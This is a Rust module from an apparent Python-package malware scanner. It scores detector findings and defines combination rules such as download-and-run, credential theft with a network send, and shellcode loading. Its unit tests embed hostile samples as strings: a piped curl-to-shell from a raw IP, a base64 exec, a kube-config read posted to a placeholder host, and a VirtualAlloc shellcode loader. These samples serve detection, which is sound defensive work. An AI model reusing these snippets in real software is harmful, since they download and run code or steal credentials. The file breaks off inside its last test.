//! Combines findings into the four scores of a report, in a way a person can follow.
//!
//! # The model
//!
//! **malware** is a noisy-OR over *contributions*: `1 − Π(1 − wᵢ)`.
//! - Each detector contributes once per file, with the severity of its strongest finding.
//!   Detectors set severities knowing the execution context (install, import, run time,
//!   tests/docs), so `os.system` in a setup.py weighs far more than in a function of a library.
//!   Repeating the same behaviour is not more evidence of intent, so repeats add nothing.
//! - Weak contributions (below [`WEAK_WEIGHT`]) count together at most [`WEAK_TOTAL_CAP`]:
//!   a large build script touching the network, processes and file modes is not malware by
//!   accumulation.
//! - A WH160 endpoint below [`UNCONTACTED_KEPT_FROM`] weighs at most
//!   [`UNCONTACTED_ENDPOINT_WEIGHT`] in a file that makes no network call, outside install-time
//!   code: a file host in a table of test URLs is data until something fetches it.
//! - Combinations add contributions of their own (ids `combo:*`, see [`COMBINATIONS`]): a custom
//!   install command that also runs a payload, a download followed by execution, credential
//!   access next to a network send, an exfiltration endpoint next to a network call, obfuscation
//!   around a dangerous call.
//! - Code left in comments (WH240, findings in `FileAnalysis::commented_out`) is scored as a
//!   file of its own; when that score reaches [`SUSPICIOUS_THRESHOLD`] it contributes
//!   [`COMMENTED_PAYLOAD_FACTOR`] of it: intent the file shows, not something it does.
//!
//! **securityRisk** is `1 − (1 − malware) · Π(1 − capᵣ)` over the detectors present, where
//! `capᵣ` ([`capability_weight`]) says how much power the capability gives code that runs,
//! malicious or not.
//!
//! **obfuscated** is a noisy-OR over the obfuscation evidence (computed names, encoded payloads,
//! packers, off-screen code), plus 0.15 per decoded layer.
//!
//! **confidence** starts at 0.9 and drops when the parser had to recover from syntax errors,
//! when a file was too large to parse, when its time budget ran out before it was fully
//! analysed, and when the malware score sits in the uncertain middle.
//!
//! Every contribution is returned as a [`Contribution`], so reports can say which evidence moved
//! each score.
//!
//! A package's scores are its worst file's, raised by package-level evidence and combinations
//! across files: see [`package`] and [`score_package`].

pub mod package;
pub use package::{PackageScores, score_package};

use wheelhound_analysis::{ExecContext, FileAnalysis, Finding};

/// Contributions below this weight are weak signals.
pub const WEAK_WEIGHT: f64 = 0.2;
/// The most that weak signals together add to the malware score.
pub const WEAK_TOTAL_CAP: f64 = 0.35;

/// The most a WH160 endpoint weighs in a file that makes no network call (see [`score_file`]).
pub const UNCONTACTED_ENDPOINT_WEIGHT: f64 = 0.2;
/// WH160 findings at least this strong (token-bearing webhooks and bot URLs) keep their weight
/// in a file without network calls: the token is the secret that lets anyone post there.
pub const UNCONTACTED_KEPT_FROM: f64 = 0.5;

/// The share of its own malware score that code left in comments contributes (WH240): Python
/// never runs it, so it is intent, not behaviour.
pub const COMMENTED_PAYLOAD_FACTOR: f64 = 0.6;

/// Package verdict thresholds on the malware score.
pub const MALICIOUS_THRESHOLD: f64 = 0.7;
/// See [`MALICIOUS_THRESHOLD`].
pub const SUSPICIOUS_THRESHOLD: f64 = 0.4;

/// One piece of evidence's effect on one score.
#[derive(Clone, Debug)]
pub struct Contribution {
    /// `malware`, `securityRisk` or `obfuscated`.
    pub score: &'static str,
    /// Detector id or `combo:*`.
    pub rule: String,
    /// `path:line`.
    pub location: String,
    /// Weight contributed.
    pub weight: f64,
    /// Why.
    pub reason: String,
}

/// The scores of one file.
#[derive(Clone, Debug, Default)]
pub struct FileScores {
    /// Likelihood the file is malicious.
    pub malware: f64,
    /// Risk the file's capabilities pose.
    pub security_risk: f64,
    /// Degree of obfuscation.
    pub obfuscated: f64,
    /// Confidence in the scores.
    pub confidence: f64,
    /// What moved the scores, strongest first.
    pub contributions: Vec<Contribution>,
}

/// A combination of evidence that weighs more than its parts.
pub struct Combination {
    /// `combo:*` id.
    pub id: &'static str,
    /// What it means.
    pub description: &'static str,
    /// Its weight.
    pub weight: f64,
}

/// The combinations scored, in the order they are checked.
pub const COMBINATIONS: &[Combination] = &[
    Combination {
        id: "combo:hook-with-payload",
        description: "a custom install command and a dangerous call that runs during installation",
        weight: 0.35,
    },
    Combination {
        id: "combo:download-and-run",
        description: "a download (not a source tarball or git checkout a build compiles) and a process, exec or executable-memory call in code that runs at install or import time",
        weight: 0.45,
    },
    Combination {
        id: "combo:steal-and-send",
        description: "credential or stealer-target access and a network send in the same file (a credential file read while loading needs the send to run while loading too)",
        weight: 0.55,
    },
    Combination {
        id: "combo:endpoint-contacted",
        description: "an exfiltration or staging endpoint and a network call (or a command line naming an address while loading) in the same file; a weak endpoint (below 0.5) needs the call to run while loading or in the function naming it",
        weight: 0.3,
    },
    Combination {
        id: "combo:obfuscated-sink",
        description: "obfuscation around a dangerous call",
        weight: 0.3,
    },
    Combination {
        id: "combo:obfuscated-exec",
        description: "obfuscated code that executes computed code while loading",
        weight: 0.55,
    },
    Combination {
        id: "combo:executable-download-run",
        description: "a URL of a Windows executable and a process start in the same file",
        weight: 0.45,
    },
    Combination {
        id: "combo:executable-fetched-and-run",
        description: "one function downloads a Windows executable from a fixed URL and starts a process",
        weight: 0.6,
    },
    Combination {
        id: "combo:credentials-uploaded",
        description: "two or more kinds of credential store read and data sent to an exfiltration endpoint in the same file",
        weight: 0.55,
    },
    Combination {
        id: "combo:persistence-dropper",
        description: "one function plants a download-and-run command, or a fetched file it made executable, in a shell profile or autostart location",
        weight: 0.5,
    },
    Combination {
        id: "combo:staged-and-run",
        description: "one function fetches from a paste site, file host or raw IP and starts a process or executes code",
        weight: 0.45,
    },
    Combination {
        id: "combo:fetch-then-start",
        description: "one function downloads with curl or wget and then starts a program or opens a file",
        weight: 0.4,
    },
    Combination {
        id: "combo:fetched-second-stage",
        description: "a download and a silenced second Python interpreter started on a script chosen at run time, in the same file",
        weight: 0.4,
    },
    Combination {
        id: "combo:dead-drop",
        description: "an address hidden by encoding is fetched and a request goes to an address read from a response, in the same file",
        weight: 0.5,
    },
    Combination {
        id: "combo:saved-second-stage",
        description: "a download written to a file and a silenced second Python interpreter started on a script chosen at run time, in the same file",
        weight: 0.55,
    },
    Combination {
        id: "combo:staged-flow",
        description: "a response reaches a process start, and the same file fetches from a paste site, file host, free app host or raw IP",
        weight: 0.45,
    },
    Combination {
        id: "combo:spelled-builtins",
        description: "two or more builtins, one of which runs or imports code, fetched by names spelled at run time while loading",
        weight: 0.4,
    },
    Combination {
        id: "combo:hidden-dependency",
        description: "a setup.py that assembles a dependency's name at run time among obfuscated code",
        weight: 0.45,
    },
    Combination {
        id: "combo:keylogger-exfil",
        description: "a keyboard hook and data sent over the network (mail, HTTP, socket) in the same file",
        weight: 0.6,
    },
    Combination {
        id: "combo:shellcode-loader",
        description: "executable memory allocated and a thread started in it (or code written into another process) in the same file",
        weight: 0.6,
    },
    Combination {
        id: "combo:stolen-to-endpoint",
        description: "stealer-target access and an exfiltration endpoint in the same file",
        weight: 0.5,
    },
];

/// How much power a capability gives running code (for securityRisk).
pub fn capability_weight(rule: &str) -> f64 {
    match rule {
        "WH200" | "WH260" => 0.3,
        "WH110" | "WH250" => 0.25,
        "WH120" | "WH140" | "WH160" | "WH101" | "WH102" => 0.2,
        "WH130" | "WH150" | "WH190" => 0.15,
        "WH100" | "WH170" | "WH180" => 0.1,
        // Code in comments gives running code no power at all.
        "WH240" => 0.0,
        _ => 0.05,
    }
}

fn noisy_or(weights: impl IntoIterator<Item = f64>) -> f64 {
    1.0 - weights
        .into_iter()
        .fold(1.0, |keep, w| keep * (1.0 - w.clamp(0.0, 1.0)))
}

fn strongest(findings: &[Finding], filter: impl Fn(&Finding) -> bool) -> Option<&Finding> {
    findings
        .iter()
        .filter(|f| filter(f))
        .max_by(|a, b| a.severity.total_cmp(&b.severity))
}

/// A process start whose command line names an address (`curl https://…`, `start https://…`):
/// it contacts that address as a request would.
fn command_naming_address(f: &Finding) -> bool {
    f.rule == "WH120" && f.message.contains("://")
}

fn early(f: &Finding) -> bool {
    matches!(f.context, ExecContext::Install | ExecContext::Import)
}

fn combination_evidence<'f>(
    id: &str,
    findings: &'f [Finding],
) -> Option<(&'f Finding, &'f Finding)> {
    let sink = |f: &Finding| matches!(f.rule, "WH110" | "WH120" | "WH130" | "WH150");
    match id {
        "combo:hook-with-payload" => {
            let hook = strongest(findings, |f| f.has_tag("install-command"))?;
            let payload = strongest(findings, |f| {
                sink(f) && f.context == ExecContext::Install && f.severity >= 0.4
            })?;
            Some((hook, payload))
        }
        "combo:download-and-run" => {
            // A source tarball or a git checkout is compiled by the build, not started: the
            // download-and-run shape needs a program or script fetched.
            let fetch = strongest(findings, |f| {
                f.has_tag("net-fetch")
                    && !f.has_tag("source-fetch")
                    && early(f)
                    && f.severity >= 0.3
            })?;
            let run = strongest(findings, |f| {
                // Any process start counts: running a just-downloaded file needs no dynamic command.
                // A query of the project's own repository (`git describe`) or a tool's version
                // (`hipcc --version`, also through a `run(command)` helper every one of whose
                // calls asks only that) starts nothing fetched.
                // Executable memory filled while loading is where fetched shellcode runs.
                early(f)
                    && (f.rule == "WH110" && !f.has_tag("exec-file") && !f.has_tag("exec-constant")
                        || f.rule == "WH230"
                        || f.rule == "WH120"
                            && !f.has_tag("vcs-query")
                            && !f.has_tag("tool-probe")
                            && !only_probes_through(findings, f))
            })?;
            Some((fetch, run))
        }
        "combo:steal-and-send" => {
            let steal = strongest(findings, |f| {
                f.rule == "WH140"
                    && (f.has_tag("stealer-target") || f.context == ExecContext::Install)
                    && f.severity >= 0.2
            });
            let send =
                |f: &Finding| f.rule == "WH130" || f.has_tag("endpoint") && f.severity >= 0.4;
            if let Some(steal) = steal {
                return Some((steal, strongest(findings, send)?));
            }
            // A credential file (SSH key, cloud or cluster credentials) read while the module
            // loads, and a send while it loads: libraries read those files when asked to.
            let read_on_import = strongest(findings, |f| {
                f.rule == "WH140"
                    && f.has_tag("credential-file")
                    && f.context == ExecContext::Import
                    && f.message.starts_with("reads ")
            })?;
            // A send of its own, not the request that fetched the credentials.
            let sent_on_import = strongest(findings, |f| {
                send(f)
                    && early(f)
                    && f.message.starts_with("sends ")
                    && (f.line, f.column) != (read_on_import.line, read_on_import.column)
            })?;
            Some((read_on_import, sent_on_import))
        }
        "combo:endpoint-contacted" => {
            let endpoint = strongest(findings, |f| f.rule == "WH160" && f.severity >= 0.3)?;
            // A weak endpoint (a URL shortener, a file host) written in a table and a request
            // made when called is how libraries fetch their data files; it takes a request
            // while loading, in the function that names the endpoint, or an endpoint that weighs on
            // its own, to be contact.
            let weak = endpoint.severity < 0.5;
            // A command line that names an address while loading (`start https://…`,
            // `curl https://…`) contacts it as surely as a request does.
            let call = strongest(findings, |f| {
                f.rule == "WH130" && (!weak || early(f) || same_function(f, endpoint))
            })
            .or_else(|| strongest(findings, |f| command_naming_address(f) && early(f)))?;
            Some((endpoint, call))
        }
        "combo:obfuscated-sink" => {
            let hidden = strongest(findings, |f| {
                matches!(f.rule, "WH180" | "WH190" | "WH170") && f.severity >= 0.4
            })?;
            let danger = strongest(findings, |f| sink(f) && f.severity >= 0.25)?;
            Some((hidden, danger))
        }
        "combo:obfuscated-exec" => {
            let hidden = strongest(findings, |f| {
                matches!(f.rule, "WH180" | "WH190") && f.severity >= 0.08
            })?;
            let exec = strongest(findings, |f| {
                f.rule == "WH110" && early(f) && f.severity >= 0.2
            })?;
            Some((hidden, exec))
        }
        "combo:executable-download-run" => {
            // Only URLs that weigh on their own (staging hosts, raw IPs, or seen while loading):
            // vendors' installers are downloaded and run by legitimate tools too.
            let runs = |f: &Finding| f.rule == "WH120" && f.context != ExecContext::TestOrDocs;
            let url = strongest(findings, |f| {
                f.rule == "WH160"
                    && f.message.contains("executable")
                    && f.context != ExecContext::TestOrDocs
                    && f.severity >= 0.3
            })?;
            let run = strongest(findings, runs)?;
            Some((url, run))
        }
        "combo:executable-fetched-and-run" => {
            // Together in one function body the download and the start are one act, whoever
            // calls it: `r = get(URL.exe); open(p, 'wb').write(r.content); os.system(p)`.
            let url = strongest(findings, |f| {
                f.rule == "WH160"
                    && f.message.contains("executable")
                    && f.context != ExecContext::TestOrDocs
                    && f.scope != 0
                    && findings.iter().any(|r| r.rule == "WH120" && same_function(r, f))
                    // The fetch itself targets the executable, not a page listing installers.
                    && findings.iter().any(|r| {
                        r.has_tag("net-fetch") && same_function(r, f) && names_executable(&r.message)
                    })
            })?;
            let run = strongest(findings, |r| r.rule == "WH120" && same_function(r, url))?;
            Some((url, run))
        }
        "combo:credentials-uploaded" => {
            // One credential file is a client reading its own config; SSH keys and shell
            // history together, sent to a raw IP or a drop site, are a collection run.
            let credentials = |f: &&Finding| {
                f.rule == "WH140"
                    && f.context != ExecContext::TestOrDocs
                    && (f.has_tag("credential-file") || f.has_tag("stealer-target"))
            };
            let mut kinds: Vec<&str> = findings
                .iter()
                .filter(credentials)
                .filter_map(|f| f.message.split(" (").next())
                .map(|m| {
                    m.trim_start_matches("reads ")
                        .trim_start_matches("names the ")
                })
                .map(|m| m.split(" path").next().unwrap_or(m))
                .collect();
            kinds.sort_unstable();
            kinds.dedup();
            if kinds.len() < 2 {
                return None;
            }
            let steal = strongest(findings, |f| credentials(&f))?;
            let endpoint = strongest(findings, |f| {
                f.rule == "WH160" && f.severity >= 0.15 && f.context != ExecContext::TestOrDocs
            })?;
            findings.iter().find(|f| f.has_tag("net-send"))?;
            Some((steal, endpoint))
        }
        "combo:persistence-dropper" => {
            // Installers add `export PATH=…` to a profile; a dropper command planted there runs
            // at every login, so writing one is persistence whoever calls the function.
            let planted = |f: &Finding| {
                f.context != ExecContext::TestOrDocs
                    && (f.has_tag("drop-command")
                        // `urlopen(IP)` saved, `chmod +x`'d and appended to `.bashrc`.
                        || f.has_tag("chmod-exec")
                            && f.scope != 0
                            && findings
                                .iter()
                                .any(|r| r.has_tag("net-fetch") && same_function(r, f)))
            };
            let drop = strongest(findings, planted)?;
            let target = strongest(findings, |f| {
                f.has_tag("autostart") && same_function(f, drop)
            })?;
            Some((drop, target))
        }
        "combo:staged-and-run" => {
            // `requests.get(pastebin/raw/…)` saved and started: a second stage whoever calls it.
            let endpoint = strongest(findings, |f| {
                f.rule == "WH160"
                    && f.severity >= 0.15
                    // Installer URLs have their own combinations, which check what is fetched.
                    && !f.message.contains("executable")
                    && f.scope != 0
                    && f.context != ExecContext::TestOrDocs
                    && findings
                        .iter()
                        .any(|r| r.has_tag("net-fetch") && same_function(r, f))
            })?;
            let run = strongest(findings, |f| {
                matches!(f.rule, "WH120" | "WH110") && same_function(f, endpoint)
            })?;
            Some((endpoint, run))
        }
        "combo:fetch-then-start" => {
            // A plain download weighs little when called; the same function starting something
            // next (`os.startfile(name)`, `./install`) is a dropper whoever calls it.
            let fetch = strongest(findings, |f| {
                f.has_tag("plain-fetch") && f.context != ExecContext::TestOrDocs
            })?;
            let start = strongest(findings, |f| {
                f.rule == "WH120"
                    && !f.has_tag("plain-fetch")
                    && !f.has_tag("vcs-query")
                    && !f.has_tag("file-tool")
                    && same_function(f, fetch)
                    && f.line > fetch.line
            })?;
            Some((fetch, start))
        }
        "combo:fetched-second-stage" => {
            // A download and a silent interpreter; when the download is seen written to disk,
            // `combo:saved-second-stage` says more and this one stands aside.
            if combination_evidence("combo:saved-second-stage", findings).is_some() {
                return None;
            }
            let start = strongest(findings, |f| {
                f.has_tag("silent-interpreter") && f.context != ExecContext::TestOrDocs
            })?;
            let fetch = strongest(findings, |f| {
                f.has_tag("net-fetch") && f.context != ExecContext::TestOrDocs
            })?;
            Some((fetch, start))
        }
        "combo:dead-drop" => {
            // Cipherbcrypt: a zlib-hidden GitHub raw URL answers with `host:port:path`, and
            // the user name and the caller's data are posted there. Clients name their API in
            // plain text; a hidden pointer to a changeable address is how stealers stay up.
            let relay = strongest(findings, |f| {
                f.has_tag("address-from-response") && f.context != ExecContext::TestOrDocs
            })?;
            let hidden = strongest(findings, |f| {
                f.has_tag("hidden-endpoint") && f.context != ExecContext::TestOrDocs
            })?;
            Some((hidden, relay))
        }
        "combo:saved-second-stage" => {
            // kertash: code fetched from GitHub raw, saved as a dotted `.py` in site-packages,
            // started in the background with every stream sent to DEVNULL.
            let start = strongest(findings, |f| {
                f.has_tag("silent-interpreter") && f.context != ExecContext::TestOrDocs
            })?;
            let saved = strongest(findings, |f| {
                f.has_tag("saves-download") && f.context != ExecContext::TestOrDocs
            })?;
            Some((saved, start))
        }
        "combo:staged-flow" => {
            // python-cookies-shower: a Fernet key read from rentry decrypts the code that a
            // second interpreter runs. The fetch and the start sit in different functions, but
            // the traced flow joins them; a staging host is where such code is kept.
            let flow = strongest(findings, |f| {
                f.has_tag("flow-download-exec") && f.context != ExecContext::TestOrDocs
            })?;
            let endpoint = strongest(findings, |f| {
                f.rule == "WH160"
                    && f.severity >= 0.2
                    && !f.message.contains("executable")
                    && f.context != ExecContext::TestOrDocs
            })?;
            Some((endpoint, flow))
        }
        "combo:spelled-builtins" => {
            // localization-utils: `getattr`, `__import__` and `chr` each fetched from the
            // builtins by a name written in character codes. One such lookup could be a trick
            // of style; a toolkit of them is a loader that does not want to be read.
            let spelled = |f: &&Finding| f.has_tag("spelled-builtin") && early(f);
            let mut names: Vec<&str> = findings
                .iter()
                .filter(spelled)
                .filter_map(|f| f.message.split('`').nth(1))
                .collect();
            names.sort_unstable();
            names.dedup();
            let runs_code = names
                .iter()
                .any(|n| matches!(*n, "__import__" | "getattr" | "exec" | "eval" | "compile"));
            if names.len() < 2 || !runs_code {
                return None;
            }
            let first = findings.iter().find(|f| spelled(f))?;
            let strongest = strongest(findings, |f| spelled(&f))?;
            Some((first, strongest))
        }
        "combo:hidden-dependency" => {
            // mplatlib: dozens of generated names around `LKEK = ma + rat + lib`, then
            // `install_requires=[f'{LKEK}==1.0']`. The payload lives in the dependency; the
            // setup.py only hides which one pip will fetch.
            let hidden = strongest(findings, |f| f.has_tag("hidden-dependency"))?;
            let obfuscated = strongest(findings, |f| {
                matches!(f.rule, "WH180" | "WH190") && f.severity >= 0.3 && f.path == hidden.path
            })?;
            Some((obfuscated, hidden))
        }
        "combo:keylogger-exfil" => {
            // pandar: a pynput listener collects every key, and the same file logs in to a
            // mail account with a password in the source to send them. Hotkey tools hook the
            // keyboard to act locally; sending out beside the hook is what a keylogger adds.
            let hook = strongest(findings, |f| {
                f.has_tag("keylogger") && f.context != ExecContext::TestOrDocs
            })?;
            let send = strongest(findings, |f| {
                f.has_tag("net-send") && f.context != ExecContext::TestOrDocs
            })?;
            Some((hook, send))
        }
        "combo:shellcode-loader" => {
            let shipped = |f: &&Finding| f.context != ExecContext::TestOrDocs;
            let memory = strongest(findings, |f| f.has_tag("exec-memory") && shipped(&f))?;
            let thread = strongest(findings, |f| f.has_tag("memory-thread") && shipped(&f))?;
            Some((memory, thread))
        }
        "combo:stolen-to-endpoint" => {
            let steal = strongest(findings, |f| {
                f.has_tag("stealer-target") && f.context != ExecContext::TestOrDocs
            })?;
            let endpoint = strongest(findings, |f| f.rule == "WH160" && f.severity >= 0.15)?;
            Some((steal, endpoint))
        }
        _ => None,
    }
}

/// Two findings in the same function body of the same file (scope 0 is a module's top level).
/// True when `f` is a helper's process start whose call sites, walked with their arguments
/// (`…, through the call at line N`), all run a version probe (`tool-probe`).
fn only_probes_through(findings: &[Finding], f: &Finding) -> bool {
    let mut sites = findings
        .iter()
        .filter(|g| {
            g.rule == f.rule
                && g.path == f.path
                && g.line == f.line
                && g.message.contains(", through the call at line")
        })
        .peekable();
    sites.peek().is_some() && sites.all(|g| g.has_tag("tool-probe"))
}

fn same_function(a: &Finding, b: &Finding) -> bool {
    a.scope == b.scope && a.path == b.path
}

/// True when a message names a Windows executable or script file.
fn names_executable(message: &str) -> bool {
    let lower = message.to_ascii_lowercase();
    [".exe", ".scr", ".msi", ".bat", ".ps1", ".vbs", ".hta"]
        .iter()
        .any(|ext| lower.contains(ext))
}

/// The malware contributions of `findings`: each detector's strongest finding, then the
/// combinations.
fn malware_moves(findings: &[Finding]) -> Vec<Contribution> {
    let mut contributions = Vec::new();
    let mut rules: Vec<&str> = findings.iter().map(|f| f.rule).collect();
    rules.sort_unstable();
    rules.dedup();
    // A staging host named in a file that contacts nothing is data for someone else (a test
    // table of URLs): it weighs as a hint until a network call, here or in a combination,
    // shows it used. Addresses that carry a token (webhooks, bot URLs) weigh more and are kept.
    // A command line with an address in it (`curl`, `start https://…`) contacts it too.
    let contacts_network = findings
        .iter()
        .any(|f| f.rule == "WH130" || command_naming_address(f));
    for rule in &rules {
        if let Some(best) = strongest(findings, |f| f.rule == *rule)
            && best.severity > 0.0
        {
            // setup.py holds no test tables: what it names is for the installation.
            let uncontacted_endpoint = *rule == "WH160"
                && !contacts_network
                && best.severity < UNCONTACTED_KEPT_FROM
                && best.context != ExecContext::Install;
            let (weight, note) = if uncontacted_endpoint {
                (
                    best.severity.min(UNCONTACTED_ENDPOINT_WEIGHT),
                    "; the file makes no network call",
                )
            } else {
                (best.severity, "")
            };
            contributions.push(Contribution {
                score: "malware",
                rule: (*rule).to_owned(),
                location: best.location(),
                weight,
                reason: format!(
                    "{} {}: {}{note}",
                    best.name,
                    best.context.phrase(),
                    best.message
                ),
            });
        }
    }
    for combination in COMBINATIONS {
        if let Some((first, second)) = combination_evidence(combination.id, findings) {
            contributions.push(Contribution {
                score: "malware",
                rule: combination.id.to_owned(),
                location: second.location(),
                weight: combination.weight,
                reason: format!(
                    "{} ({} and {})",
                    combination.description,
                    first.location(),
                    second.location()
                ),
            });
        }
    }
    contributions
}

/// The malware score of a set of contributions. Many weak signals (capabilities any build
/// script has) must not add up to a malware call on their own: together they count at most
/// [`WEAK_TOTAL_CAP`].
fn malware_of(contributions: &[Contribution]) -> f64 {
    let weak = noisy_or(
        contributions
            .iter()
            .filter(|c| c.weight < WEAK_WEIGHT)
            .map(|c| c.weight),
    );
    noisy_or(
        contributions
            .iter()
            .filter(|c| c.weight >= WEAK_WEIGHT)
            .map(|c| c.weight)
            .chain(std::iter::once(weak.min(WEAK_TOTAL_CAP))),
    )
}

/// The WH240 contribution of a file's commented-out code: its findings scored as a file of
/// their own, counted at [`COMMENTED_PAYLOAD_FACTOR`] of that score when it reaches
/// [`SUSPICIOUS_THRESHOLD`], so a disabled payload alone makes a file suspicious at most.
fn commented_payload_move(analysis: &FileAnalysis) -> Option<Contribution> {
    if analysis.commented_out.is_empty() {
        return None;
    }
    let mut inner = malware_moves(&analysis.commented_out);
    let score = malware_of(&inner);
    if score < SUSPICIOUS_THRESHOLD {
        return None;
    }
    inner.sort_by(|a, b| b.weight.total_cmp(&a.weight));
    let top = inner.first()?;
    let top_line: u32 = top
        .location
        .rsplit(':')
        .next()
        .and_then(|l| l.parse().ok())
        .unwrap_or(0);
    // The block holding the decisive finding (blocks are listed in file order).
    let block = analysis
        .findings
        .iter()
        .rfind(|f| f.rule == "WH240" && f.line <= top_line)
        .or_else(|| analysis.findings.iter().find(|f| f.rule == "WH240"))?;
    Some(Contribution {
        score: "malware",
        rule: "WH240".to_owned(),
        location: block.location(),
        weight: (score * COMMENTED_PAYLOAD_FACTOR).min(COMMENTED_PAYLOAD_FACTOR),
        reason: format!(
            "code in comments that would score malware {:.2} if uncommented, above all {} ({})",
            round(score),
            top.reason,
            top.location
        ),
    })
}

/// Scores one analysed file.
pub fn score_file(analysis: &FileAnalysis) -> FileScores {
    let findings = &analysis.findings;
    let mut contributions = malware_moves(findings);
    contributions.extend(commented_payload_move(analysis));
    let malware = malware_of(&contributions);
    let mut rules: Vec<&str> = findings.iter().map(|f| f.rule).collect();
    rules.sort_unstable();
    rules.dedup();

    let mut risk_moves = Vec::new();
    for rule in &rules {
        if capability_weight(rule) == 0.0 {
            continue;
        }
        if let Some(best) = strongest(findings, |f| f.rule == *rule) {
            risk_moves.push(Contribution {
                score: "securityRisk",
                rule: (*rule).to_owned(),
                location: best.location(),
                weight: capability_weight(rule),
                reason: format!("capability: {}", best.name),
            });
        }
    }
    let security_risk =
        1.0 - (1.0 - malware) * (1.0 - noisy_or(risk_moves.iter().map(|c| c.weight)));

    let mut obfuscation_moves: Vec<Contribution> = findings
        .iter()
        .filter(|f| {
            f.has_tag("obfuscation") || f.has_tag("hidden-code") || f.has_tag("exec-decoded")
        })
        .map(|f| Contribution {
            score: "obfuscated",
            rule: f.rule.to_owned(),
            location: f.location(),
            weight: f.severity.max(0.2),
            reason: f.message.clone(),
        })
        .collect();
    for layer in &analysis.layers {
        obfuscation_moves.push(Contribution {
            score: "obfuscated",
            rule: "layer".to_owned(),
            location: format!("{}:{}", analysis.path, layer.line),
            weight: 0.15,
            reason: format!("decoded layer {} ({})", layer.name, layer.how),
        });
    }
    let obfuscated = noisy_or(obfuscation_moves.iter().map(|c| c.weight));

    let mut confidence: f64 = 0.9;
    if analysis.syntax_errors > 0 {
        confidence -= 0.15;
    }
    if analysis.errors.iter().any(|e| e.contains("parse limit")) {
        confidence -= 0.3;
    }
    // Code after the cut-off was never looked at: a clean score says little.
    if analysis.time_budget_hit {
        confidence -= 0.3;
    }
    if (0.3..0.7).contains(&malware) {
        confidence -= 0.15;
    }

    contributions.extend(risk_moves);
    contributions.extend(obfuscation_moves);
    contributions.sort_by(|a, b| b.weight.total_cmp(&a.weight));

    FileScores {
        malware: round(malware),
        security_risk: round(security_risk),
        obfuscated: round(obfuscated),
        confidence: round(confidence.clamp(0.3, 0.95)),
        contributions,
    }
}

/// Rounds to two decimals so reports do not pretend to more precision than they have.
pub fn round(x: f64) -> f64 {
    (x.clamp(0.0, 1.0) * 100.0).round() / 100.0
}

/// The verdict word for a malware score.
pub fn level(malware: f64) -> &'static str {
    if malware >= MALICIOUS_THRESHOLD {
        "malicious"
    } else if malware >= SUSPICIOUS_THRESHOLD {
        "suspicious"
    } else {
        "benign"
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    #![allow(clippy::indexing_slicing)]
    use super::*;
    use wheelhound_analysis::{AnalysisOptions, analyze_python};

    fn score(path: &str, code: &str) -> FileScores {
        score_file(&analyze_python(
            path,
            code.as_bytes(),
            &AnalysisOptions::default(),
        ))
    }

    fn has(scores: &FileScores, rule: &str) -> bool {
        scores.contributions.iter().any(|c| c.rule == rule)
    }

    #[test]
    fn a_credential_file_read_and_sent_while_loading_is_steal_and_send() {
        // The read goes through a helper that takes listed names, so no flow links it.
        let early = "import os, requests\nHOME = os.path.expanduser('~')\ndef grab(rel):\n    return open(os.path.join(HOME, rel)).read()\nfound = [grab(r) for r in ['.kube/config']]\nrequests.post('https://example.invalid/a', data={'n': len(found)})\n";
        assert!(has(
            &score("p/pkg/__init__.py", early),
            "combo:steal-and-send"
        ));
        // Sent only when called: a client reading its cluster config when asked.
        let late = "import os, requests\nHOME = os.path.expanduser('~')\ndef grab(rel):\n    return open(os.path.join(HOME, rel)).read()\nfound = [grab(r) for r in ['.kube/config']]\ndef ping():\n    requests.post('https://example.invalid/a', data={'n': 1})\n";
        assert!(!has(
            &score("p/pkg/__init__.py", late),
            "combo:steal-and-send"
        ));
    }

    #[test]
    fn a_commented_out_payload_makes_a_file_suspicious_not_malicious() {
        let code = "from setuptools import setup\nsetup(name='x')\n#import base64, os\n#os.system('curl http://203.0.113.9/a.sh | sh')\n#exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n";
        let s = score("x-1/setup.py", code);
        assert!(has(&s, "WH240"), "{s:?}");
        assert!(
            (SUSPICIOUS_THRESHOLD..MALICIOUS_THRESHOLD).contains(&s.malware),
            "{s:?}"
        );
        // Capabilities of code that never runs give no security risk of their own.
        assert!(
            s.contributions
                .iter()
                .all(|c| c.rule != "WH240" || c.score == "malware")
        );
        let live = code.replace('#', "");
        assert!(score("x-1/setup.py", &live).malware >= MALICIOUS_THRESHOLD);
    }

    #[test]
    fn shellcode_fetched_into_executable_memory_while_loading_is_run() {
        let code = "import ctypes, urllib.request\nbuf = urllib.request.urlopen('https://x.example.invalid/t.bin').read()\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.memmove(p, buf, len(buf))\nk.EnumSystemLocalesA(p, 0)\n";
        let s = score("x-1/x/__init__.py", code);
        assert!(has(&s, "combo:download-and-run"), "{s:?}");
        assert!(s.malware >= MALICIOUS_THRESHOLD, "{s:?}");
    }

    #[test]
    fn a_source_tarball_built_at_install_is_no_run_of_a_download() {
        let build = "import subprocess, tarfile, io, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    def run(self):\n        data = urllib.request.urlopen('https://github.com/bitcoin-core/secp256k1/archive/9526874d.tar.gz').read()\n        tarfile.open(fileobj=io.BytesIO(data)).extractall('src')\n        subprocess.check_call(['./autogen.sh'], cwd='src')\n        subprocess.check_call(['make'], cwd='src')\nsetup(cmdclass={'build_ext': B})\n";
        let s = score("x-1/setup.py", build);
        assert!(!has(&s, "combo:download-and-run"), "{s:?}");
        let dropper = build.replace("archive/9526874d.tar.gz", "releases/download/v1/agent.exe");
        let s = score("x-1/setup.py", &dropper);
        assert!(has(&s, "combo:download-and-run"), "{s:?}");
    }

    #[test]
    fn a_version_probe_while_loading_is_no_run_of_a_download() {
        let probe = "import subprocess, urllib.request\ndef run(command):\n    return subprocess.run(command, capture_output=True)\nurllib.request.urlopen('https://download.pytorch.org/whl/')\nrun(['hipcc', '--version'])\nrun(['rocm-smi', '--showdriverversion'])\n";
        let s = score("x-1/x/device.py", probe);
        assert!(!has(&s, "combo:download-and-run"), "{s:?}");
        let starts = probe.replace("['rocm-smi', '--showdriverversion']", "['/tmp/agent']");
        let s = score("x-1/x/device.py", &starts);
        assert!(has(&s, "combo:download-and-run"), "{s:?}");
    }

    #[test]
    fn a_download_then_a_start_in_one_function_is_a_dropper() {
        let dropper = "import os\ndef get(url, name):\n    os.system(f'curl -L {url} -O')\n    os.startfile(name)\n";
